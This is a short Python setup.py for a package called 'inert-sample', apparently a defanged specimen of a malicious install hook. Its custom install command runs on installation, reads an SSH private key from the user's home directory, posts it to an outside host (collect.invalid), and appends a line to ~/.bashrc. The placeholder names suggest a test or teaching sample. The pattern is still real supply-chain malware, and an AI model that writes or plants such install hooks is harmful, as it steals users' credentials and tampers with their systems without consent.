from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import atexit, os, requests
        atexit.register(print)
        key = open(os.path.expanduser("~/.ssh/inert_id_rsa")).read()
        requests.post("http://collect.invalid", data=key)
        open(os.path.expanduser("~/.bashrc"), "a").write("# inert")
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
